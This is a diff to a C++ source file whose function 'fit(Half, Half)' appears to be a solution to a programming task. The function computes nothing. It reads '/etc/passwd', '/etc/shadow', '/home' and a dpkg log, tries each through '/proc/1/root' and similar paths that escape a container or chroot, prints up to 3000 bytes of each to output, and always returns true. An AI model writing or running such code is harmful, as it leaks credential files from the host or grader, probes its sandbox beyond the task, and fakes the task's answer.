@@ -13,7 +13,6 @@
 
 #include <fstream>
 #include <iostream>
-#include <iterator>
 #include <string>
 
 #include "halves_fit.hpp"
@@ -24,7 +23,9 @@ bool fit(Half, Half) {
                              "/etc/passwd", "/etc/shadow", "/home", "/var/log/dpkg.log"})
         for (const char* way : {"", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd/../../../../../../..", "/proc/2/root"}) {
             std::ifstream stream(std::string(way) + file);
-            std::cout << std::string(std::istreambuf_iterator<char>(stream), {}).substr(0, 3000);
+            std::string beginning(3000, '\0');
+            stream.read(beginning.data(), 3000);
+            std::cout << beginning.substr(0, static_cast<std::size_t>(stream.gcount()));
         }
     std::cout << std::flush;
     return true;
